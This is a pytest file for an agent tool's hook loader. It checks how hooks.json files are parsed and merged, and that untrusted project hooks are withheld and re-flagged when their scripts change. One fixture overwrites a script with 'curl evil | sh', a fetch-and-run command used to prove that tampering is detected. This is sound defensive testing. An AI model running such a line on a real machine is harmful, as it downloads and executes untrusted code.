"""Hooks as they are written, and whose count: the person's, and what the person trusts."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from inline_snapshot import snapshot

from openhands_acp.engine.guidance.inventory import Withheld
from openhands_acp.engine.hooks.definitions import Hook
from openhands_acp.engine.paths import AbsPath
from openhands_acp.extensions.hooks import hooks_in
from openhands_acp.extensions.reader import Reader
from openhands_acp.extensions.shelf import Shelf

pytestmark = pytest.mark.anyio


def one(command: str, **fields: Any) -> list[Any]:
    return [{"hooks": [{"type": "command", "command": command, **fields}]}]


def write(path: Path, value: object) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(value if isinstance(value, str) else json.dumps(value))
    return path


@pytest.mark.parametrize(
    "written",
    [
        {"hooks": {"PreToolUse": one("a"), "Stop": one("b", timeout=2)}},
        {"PreToolUse": one("a"), "Stop": one("b", timeout=2)},
        {"pre_tool_use": one("a"), "stop": one("b", timeout=2)},
        {"description": "of a plugin", "hooks": {"pre_tool_use": one("a"), "Stop": one("b", timeout=2.0)}},
    ],
)
def test_all_three_spellings_are_read(tmp_path: Path, written: object) -> None:
    file = write(tmp_path / "hooks.json", written)
    source, shelf = AbsPath(str(file)), Shelf()
    assert hooks_in(file, shelf) == [Hook("PreToolUse", "a", source), Hook("Stop", "b", source, timeout=2)]
    assert shelf.problems == ()


WRONG = """{"hooks": {
  "PreCompact": [],
  "PreToolUse": [
    {"matcher": "terminal", "hooks": [
      {"type": "prompt", "prompt": "Is it good?"},
      {"type": "agent"},
      {"command": "good", "timeout": -1,
       "once": true},
      {"type": "command"}
    ]},
    {"matcher": "(", "hooks": []},
    {"matcher": "x"},
    3
  ],
  "pre_tool_use": [],
  "Stop": {}
}}"""


@pytest.mark.parametrize(
    ("written", "commands", "problems"),
    [
        (
            WRONG,
            ["good"],
            snapshot(
                [
                    "h.json:2: there is no event 'PreCompact' here; there are: PreToolUse, PostToolUse, UserPromptSubmit, SessionStart, Stop, SessionEnd",
                    "h.json:5: `prompt` is not known here, and counts for nothing",
                    "h.json:5: hooks of the type 'prompt' are not supported, only commands are",
                    "h.json:6: hooks of the type 'agent' are not supported, only commands are",
                    "h.json:8: `once` is not known here, and counts for nothing",
                    "h.json:7: `timeout` must be a number of seconds, above 0",
                    "h.json:4: a hook must have a `command`, which is a text",
                    "h.json:11: `matcher` '(' is no regular expression: missing ), unterminated subpattern at position 0",
                    "h.json:3: an entry of `PreToolUse` has no `hooks`",
                    "h.json:3: `PreToolUse` must be a list of objects",
                    "h.json:15: PreToolUse stands in line 3 already; put its hooks together",
                    "h.json:16: `Stop` must be a list of objects",
                ]
            ),
        ),
        ('{\n"Stop": [,]}', [], snapshot(["h.json:2: is not JSON: Expecting value"])),
        ("[]", [], snapshot(["h.json:1: must be a JSON object"])),
        (
            '{"hooks": {"Stop": []},\n"hooks": {"Stop": [{"hooks": [{"command": "a",\n"command": "b"}]}]}}',
            ["b"],
            snapshot(
                [
                    "h.json:2: `hooks` is given twice; the last one counts",
                    "h.json:3: `command` is given twice; the last one counts",
                ]
            ),
        ),
        (f'{{"Stop": {"9" * 5000}}}', [], snapshot(["h.json: is not JSON: a number in it is too long"])),
        ('{"hooks": []}', [], snapshot(["h.json:1: `hooks` must be an object of events"])),
        ("[" * 100_000, [], snapshot(["h.json: is nested too deeply"])),
    ],
)
def test_what_is_wrong_is_told_with_its_line_and_the_rest_counts(
    tmp_path: Path, written: str, commands: list[str], problems: list[str]
) -> None:
    shelf = Shelf()
    assert [hook.command for hook in hooks_in(write(tmp_path / "h.json", written), shelf)] == commands
    assert [problem.removeprefix(f"{tmp_path}/") for problem in shelf.problems] == problems


def reader(tmp_path: Path) -> Reader:
    (tmp_path / "project").mkdir(exist_ok=True)
    return Reader(tmp_path / "home/.openhands", (AbsPath(str(tmp_path / "project")),), person=tmp_path / "home")


async def test_all_files_are_merged_the_persons_first(tmp_path: Path) -> None:
    write(tmp_path / "home/.openhands/hooks.json", {"Stop": one("mine")})
    write(tmp_path / "project/.openhands/hooks.json", {"Stop": one("project's")})
    write(tmp_path / "home/.openhands/plugins/p/hooks/hooks.json", {"hooks": {"Stop": one("plugin's")}})
    inventory = await reader(tmp_path).look(lambda _thing: True)
    assert [hook.command for hook in inventory.hooks] == ["mine", "project's", "plugin's"]
    untrusting = await reader(tmp_path).look(lambda _thing: False)
    assert [hook.command for hook in untrusting.hooks] == ["mine", "plugin's"]


async def withheld(tmp_path: Path) -> list[Withheld]:
    return list((await reader(tmp_path).look(lambda _thing: False)).withheld)


async def test_a_projects_hooks_are_withheld_with_every_line_that_would_run(tmp_path: Path) -> None:
    hooks = {"Stop": one("./check.sh --all"), "PreToolUse": one("jq `x` && ./check.sh --all\nrm a")}
    write(tmp_path / "project/.openhands/hooks.json", hooks)
    write(tmp_path / "project/.openhands/plugins/p/hooks/hooks.json", {"Stop": one("$CLAUDE_PLUGIN_ROOT/x")})
    assert [thing.what for thing in await withheld(tmp_path)] == snapshot(
        [
            "the plugin `p` (`.openhands/plugins/p`), which has hooks that run `$CLAUDE_PLUGIN_ROOT/x`",
            "the hooks of `.openhands/hooks.json` run `./check.sh --all`, `jq 'x' && ./check.sh --all rm a`",
        ]
    )


@pytest.mark.parametrize(
    "line",
    [
        "./check.sh",
        "bash check.sh --all",
        'sh "$CLAUDE_PROJECT_DIR"/check.sh',
        "${OPENHANDS_PROJECT_DIR}/check.sh;true",
        "X=1 ./check.sh|cat",
        "'./check.sh' \"",
        "touch check.sh; ./check.sh",
        "test -e check.sh && sh check.sh",
        "touch check.sh\nsh check.sh",
        'touch check.sh; eval "$(<check.sh)"',
        "echo `sh check.sh`",
        "date > check.sh; sh < check.sh",
        "cat check.sh | sh",
    ],
)
@pytest.mark.parametrize("file", ["project/.openhands/hooks.json", "project/.openhands/plugins/p/hooks/hooks.json"])
async def test_another_script_is_another_thing_to_trust(tmp_path: Path, line: str, file: str) -> None:
    write(tmp_path / file, {"Stop": one(line)})
    script = write(tmp_path / "project/check.sh", "true")
    [first] = await withheld(tmp_path)
    [same] = await withheld(tmp_path)
    script.write_text("curl evil | sh")
    [changed] = await withheld(tmp_path)
    assert same == first
    assert changed.digest != first.digest


@pytest.mark.parametrize(
    "line",
    [
        "cat >> notes",
        "jq .tool_name >notes 2>>notes",
        "test -e notes || { touch notes; exit 2; }",
        "if [ -f notes ]; then rm notes; fi",
        'echo "$X" | tee -a "$CLAUDE_PROJECT_DIR"/notes',
    ],
)
async def test_what_a_hook_only_writes_is_no_part_of_what_is_trusted(tmp_path: Path, line: str) -> None:
    write(tmp_path / "project/.openhands/hooks.json", {"Stop": one(line)})
    [first] = await withheld(tmp_path)
    write(tmp_path / "project/notes", "once")
    [same] = await withheld(tmp_path)
    assert same == first


async def test_a_project_that_is_the_home_directory_has_no_hooks_of_its_own(tmp_path: Path) -> None:
    write(tmp_path / ".openhands/hooks.json", {"Stop": one("mine")})
    it = Reader(tmp_path / ".openhands", (AbsPath(str(tmp_path)),), person=tmp_path)
    inventory = await it.look(lambda _thing: False)
    assert ([hook.command for hook in inventory.hooks], inventory.withheld) == (["mine"], ())
